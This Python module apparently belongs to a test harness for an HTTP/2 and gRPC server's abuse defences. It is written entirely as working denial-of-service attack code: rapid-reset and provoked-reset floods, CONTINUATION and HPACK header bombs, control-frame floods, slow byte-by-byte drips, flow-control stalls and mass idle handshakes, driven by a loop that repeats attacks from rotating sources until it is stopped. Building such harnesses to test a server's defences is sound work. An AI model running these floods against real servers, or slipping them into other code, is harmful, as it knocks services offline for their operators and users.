"""What a hostile HTTP/2 client does, attack by attack. FLOODS: bytes for one
connection, sent until it is cut, by name: the kind they are counted as, and a
function that makes the i-th portion. ATTACKS: one turn of an attack on a
listener from a source, as many connections as it takes, each attack of the
house's list under its name."""

import contextlib
import itertools
import select

from h2_attacker import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, HEALTH,
    PING, PRIORITY, REFLECTION, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    GONE, OPEN, Attacker, dial, frame, literal, message, request)

KIB = 1024
UNKNOWN = 0x2a  # a frame type that nobody has
IDLE = 1000     # connections of one turn that say nothing
DRIPS = 20      # connections of one turn that say a byte now and then


def ids(round_, count):
    return range(1 + 2 * round_ * count, 1 + 2 * (round_ + 1) * count, 2)


def opening(stream, path=HEALTH, flags=END_HEADERS, **changes):
    return frame(HEADERS, flags, stream, request(path, **changes))


# --- floods: GOAWAY ENHANCE_YOUR_CALM ---------------------------------------

def rapid_reset(i):
    return b"".join(opening(s) + frame(RST_STREAM, 0, s, bytes([0, 0, 0, 8]))
                    for s in ids(i, 50))


def body_that_is_missing(i):
    return b"".join(
        opening(s, flags=END_HEADERS | END_STREAM,
                more=[("content-length", "9")]) for s in ids(i, 20))


def window_too_large(i):
    return b"".join(
        opening(s) + frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff")
        for s in ids(i, 20))


def streams(i):
    return b"".join(opening(s, REFLECTION) for s in ids(i, 100))


BLOCK = (request() + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 +  # indexed: 62
         b"\xbe" * 8000)
MANY = request() + b"".join(
    literal("x", "") for _ in range(2000))


def bomb(block):
    return lambda i: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, s, block)
        for s in ids(i, 5))


def calls(**changes):
    return lambda i: b"".join(
        opening(s, flags=END_HEADERS | END_STREAM, **changes)
        for s in ids(i, 20))


def first(opens, data):
    return lambda i: (opens if i == 0 else b"") + data


def late_data(i):
    """On a call that has been answered, if one waits for that."""
    return (frame(DATA, 0, 1, bytes(16 * KIB)) * 4 if i else
            opening(1, "/no.Such/Method"))


def control(kind, stream=0, payload=b"", flags=0, count=200):
    return first(b"", frame(kind, flags, stream, payload) * count)


def bad_messages(said, more=()):
    """Calls that begin a message which no node takes."""
    return lambda i: b"".join(
        opening(s, REFLECTION, more=more) + frame(DATA, END_STREAM, s, said)
        for s in ids(i, 20))


FLOODS = {
    "rapid-reset": ("reset", rapid_reset),
    "made-you-reset-body": ("provoked_reset", body_that_is_missing),
    "made-you-reset-overflow": ("provoked_reset", window_too_large),
    "many-streams": ("streams", streams),
    "continuation": ("continuation", first(
        frame(HEADERS, 0, 1, request()),
        frame(CONTINUATION, 0, 1, literal("a", "b")))),
    "settings": ("settings", control(SETTINGS, 0, b"\0\4\0\1\0\0")),
    "ping": ("ping", control(PING, 0, bytes(8))),
    "pong": ("ping", control(PING, 0, bytes(8), flags=1)),
    "priority": ("priority", control(PRIORITY, 1, b"\0\0\0\0\1")),
    "window-update": ("window_update", control(
        WINDOW_UPDATE, 0, b"\0\0\0\1")),
    "empty-data": ("empty_data", first(
        opening(1, REFLECTION), frame(DATA, 0, 1) * 200)),
    "unknown-frames": ("other", control(UNKNOWN)),
    "goaway": ("other", first(
        opening(1, REFLECTION), frame(GOAWAY, 0, 0, bytes(8)) * 200)),
    "late-data": ("bytes", late_data),
    "hpack-bytes": ("headers", bomb(BLOCK)),
    "hpack-fields": ("headers", bomb(MANY)),
    "large-headers": ("headers", bomb(request() + literal("x", "") * 100)),
    "bad-paths": ("call", calls(path="/no.Such/Method")),
    "bad-content": ("call", calls(content_type="text/html")),
    "opens": ("call", calls(path=OPEN)),
    "message-too-large": ("call", bad_messages(message(b"", 2 ** 32 - 1))),
    "message-compressed": ("call", bad_messages(
        message(b"x", compressed=1), [("grpc-encoding", "gzip")])),
}

# --- attacks ----------------------------------------------------------------


def flood(name):
    def turn(target, listener, source):
        with Attacker(target, listener, source) as attacker:
            attacker.flood(FLOODS[name][1])
    return turn


ASK = message(b"\x3a\0")  # list_services


def questions(streams_=30, count=500):
    """Many, for answers that there is no window for."""
    return b"".join(opening(s, REFLECTION) + frame(DATA, 0, s, ASK * count)
                    for s in ids(0, streams_))


def windows_shut(target, listener, source):
    with contextlib.ExitStack() as held:
        for _ in range(10):
            one = held.enter_context(Attacker(
                target, listener, source, settings=b"\0\4\0\0\0\0"))
            one.send(questions())
        one.read(lambda f: f[0] == GOAWAY, timeout=1)


def drip(target, listener, source):
    """Headers and bodies, a byte at a time."""
    with contextlib.ExitStack() as held:
        some = [held.enter_context(Attacker(target, listener, source))
                for _ in range(DRIPS)]
        for i, one in enumerate(some):
            one.send(frame(HEADERS, 4, 1, request())[:20] if i % 2 else
                     opening(1, REFLECTION) + frame(
                         DATA, 0, 1, message(b"x", 20 * KIB)))
        for _ in range(100):
            for i, one in enumerate(some):
                one.send(b"\0" if i % 2 else frame(DATA, 0, 1, b"x"))
            select.select([], [], [], 0.01)


def idle_handshakes(target, listener, source):
    with contextlib.ExitStack() as held:
        for _ in range(IDLE):
            held.enter_context(contextlib.closing(
                dial(target, listener, source)))


def handshakes(target, listener, source):
    """TLS and HTTP/2 and no more, again and again."""
    with Attacker(target, listener, source):
        pass


ATTACKS = {
    **{name: flood(name) for name in FLOODS},
    "windows-shut": windows_shut,
    "drip": drip,
    "idle-handshakes": idle_handshakes,
    "handshakes": handshakes,
}


def attack(name, target, listener, sources, stopped=lambda: False):
    """Again and again until stopped, each turn from the next of the sources.
    What is refused is tried again."""
    for source in itertools.cycle(sources):
        if stopped():
            break
        try:
            ATTACKS[name](target, listener, source)
        except (OSError, *GONE):
            pass
